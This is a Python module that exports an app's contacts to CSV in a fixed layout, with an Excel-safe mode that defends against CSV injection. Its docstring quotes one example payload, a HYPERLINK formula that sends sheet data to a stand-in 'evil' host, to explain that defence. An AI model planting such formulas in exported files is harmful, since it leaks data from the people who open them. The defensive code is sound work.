"""Contacts as CSV in our own layout: one row a person, a header that never changes.

The header is :data:`~relationsapp.interop.contact_csv_layouts.OWN_HEADER`;
:func:`~relationsapp.interop.contact_csv.detect_contact_layout` recognises it (kind
``"relationsapp"``) and :func:`~relationsapp.interop.contact_csv.read_contact_csv` reads
the file back into the same drafts. Several e-mails, phones or tags share a cell,
joined with ``" ::: "`` as Google does; their kinds stand in the column beside them in
the same order (``work ::: home``). Birthdays are ISO dates, ``--MM-DD`` without a year.

Excel-safe mode (the default) guards against CSV injection (OWASP, "CSV Injection"):
a cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return would be
run as a formula by Excel, LibreOffice or Google Sheets when the file is opened, so a
contact named ``=HYPERLINK("http://evil/?"&A1;"Click")`` could send the sheet's data
away. Such a cell is written with a ``'`` in front, which spreadsheets show as text;
the price is that ``+45 33 12 34 56`` shows as ``'+45 …`` in a plain text editor. Our
reader removes the quote again, so the file still reads back exactly. Raw mode writes
cells as they are (for round trips through programs that are not spreadsheets).

The text is returned as ``str`` with ``\\r\\n`` line ends (RFC 4180). Write it with
``path.write_text(text, encoding="utf-8-sig", newline="")`` so that Excel recognises
UTF-8 by its byte-order mark and line ends inside cells stay as they are.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterable

from relationsapp.core.records import ContactDetails
from relationsapp.interop.contact_csv_layouts import OWN_HEADER
from relationsapp.interop.contact_csv_values import (
    MULTI_SEPARATOR,
    birthday_text,
    excel_safe,
    raw_cell,
)


def write_contacts_csv(contacts: Iterable[ContactDetails], *, excel_safe: bool = True) -> str:
    """The CSV text of ``contacts`` in our own layout (see the module docstring)."""
    cell: Callable[[str], str] = _excel_safe_cell if excel_safe else raw_cell
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(OWN_HEADER)
    for contact in contacts:
        writer.writerow([cell(value) for value in contact_row(contact)])
    return buffer.getvalue()


def _excel_safe_cell(value: str) -> str:
    return excel_safe(value)


def contact_row(contact: ContactDetails) -> list[str]:
    """The cells of one contact, in the order of ``OWN_HEADER``, before any quoting."""
    draft = contact.draft
    address = draft.address
    return [
        draft.given_name,
        draft.family_name,
        draft.given_name_latin,
        draft.family_name_latin,
        contact.account_name,
        draft.job_title,
        MULTI_SEPARATOR.join(entry.address for entry in draft.emails),
        MULTI_SEPARATOR.join(str(entry.kind) for entry in draft.emails),
        MULTI_SEPARATOR.join(entry.number for entry in draft.phones),
        MULTI_SEPARATOR.join(str(entry.kind) for entry in draft.phones),
        address.street,
        address.postal_code,
        address.city,
        address.region,
        draft.country,
        draft.time_zone,
        draft.preferred_language,
        birthday_text(draft.birthday) if draft.birthday else "",
        MULTI_SEPARATOR.join(draft.tags),
        draft.notes,
    ]
